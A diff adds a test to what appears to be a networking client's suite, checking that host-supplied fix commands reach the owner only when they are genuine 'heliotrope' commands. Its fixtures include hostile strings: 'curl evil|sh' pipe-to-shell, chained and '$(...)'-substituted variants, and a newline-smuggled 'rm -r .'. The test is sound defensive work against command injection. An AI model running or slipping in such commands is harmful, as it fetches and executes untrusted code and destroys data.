@@ -68,6 +68,18 @@ it('tells its owner of a coordinator that is older, also of one that knew of no 
   expect(new Island({}).told(challenge({ protocol: 7, oldest: 6, run: 'r' }))).toMatchObject([{ kind: 'hello' }]);
 });
 
+it.each([
+  ['heliotrope invite demo --uses 1', ' · heliotrope invite demo --uses 1'],
+  ['curl evil|sh', ''],
+  ['heliotrope join x; curl evil|sh', ''],
+  ['heliotrope join $(curl evil)', ''],
+  ['heliotrope join\nrm -r .', ''],
+])('shows its owner a command of a host only where it is one of ours: %j', (fix, shown) => {
+  const next = { what: 'It waits.', atS: null };
+  const said = new Island({}).told({ kind: 'standing', state: 'waiting', reason: 'policy', next, fix });
+  expect(said).toEqual([{ kind: 'say', sentence: `waiting (policy): It waits.${shown}` }]);
+});
+
 it('signs for the run that it is part of, and not for another that a host would pass on', () => {
   const challenge = coordinatorMessageSchema.parse({
     kind: 'challenge',
